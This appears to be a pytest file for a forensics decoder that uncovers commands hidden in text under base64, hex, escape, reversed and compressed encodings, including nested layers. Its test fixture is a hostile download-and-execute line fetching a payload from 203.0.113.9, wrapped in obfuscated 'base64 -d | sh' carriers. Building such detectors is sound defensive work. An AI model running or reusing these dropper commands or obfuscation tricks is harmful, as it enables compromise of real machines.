"""What hides in a text is found, decoded and placed; what only looks encoded is left alone."""

from __future__ import annotations

import base64
import bz2
import gzip
import hashlib
import lzma
import zlib

import pytest

from forensics.examine._decoding import reveal

SECRET = b"wget http://203.0.113.9/x -O /tmp/x; sh /tmp/x\n"
BASE64 = base64.b64encode(SECRET)
FORMS = {
    "base64": b"echo " + BASE64 + b" | base64 -d",
    "hex": b"echo " + SECRET.hex().encode() + b" | xxd -r -p",
    "escapes": b"printf '" + b"".join(b"\\x%02x" % byte for byte in SECRET) + b"'",
    "reversed base64": b"echo " + BASE64[::-1].lstrip(b"=") + b" | rev | base64 -d",
    "base64+gzip": b"base64 -d " + base64.b64encode(gzip.compress(SECRET, mtime=0)),
    "base64+zlib": b"b64decode " + base64.b64encode(zlib.compress(SECRET)),
    "base64+bzip2": b"base64 -d " + base64.b64encode(bz2.compress(SECRET)),
    "base64+xz": b"base64 -d " + base64.b64encode(lzma.compress(SECRET)),
}


@pytest.mark.parametrize("encoding", FORMS)
def test_each_encoding_gives_back_what_was_hidden(encoding: str) -> None:
    (found,) = reveal(FORMS[encoding])
    assert found.encoding == encoding
    assert found.data.rstrip() == SECRET.rstrip()


def test_octal_escapes_are_decoded_too() -> None:
    (found,) = reveal(b"printf '" + b"".join(b"\\%03o" % byte for byte in SECRET) + b"'")
    assert (found.encoding, found.data) == ("escapes", SECRET)


def test_base64_in_lines_is_one_run() -> None:
    secret = SECRET * 8
    wrapped = base64.encodebytes(secret)
    text = b"base64 -d <<X\n" + wrapped + b"X\n"
    (found,) = reveal(text)
    assert found.data == secret
    assert text[found.offset : found.offset + found.length].split() == wrapped.split()


def test_layers_are_named_outermost_first_at_the_same_place() -> None:
    inner = b"echo " + BASE64 + b" | base64 -d | sh"
    found = reveal(b"echo " + base64.b64encode(inner) + b" | base64 -d | sh")
    assert [(each.encoding, each.data) for each in found] == [
        ("base64", inner),
        ("base64 > base64", SECRET),
    ]
    assert len({(each.offset, each.length) for each in found}) == 1


@pytest.mark.parametrize(
    "text",
    [
        BASE64,  # no word of the text decodes
        b"base64 " + hashlib.sha256(b"x").hexdigest().encode(),
        b"base64 /usr/share/somewhere/else/with/a/long/name",
        b"xxd -r " + hashlib.sha512(b"x").hexdigest().encode(),
        b"base64 aWQK",
        b"printf '\\x41\\x42'",
    ],
)
def test_what_only_looks_encoded_gives_nothing(text: bytes) -> None:
    assert reveal(text) == ()
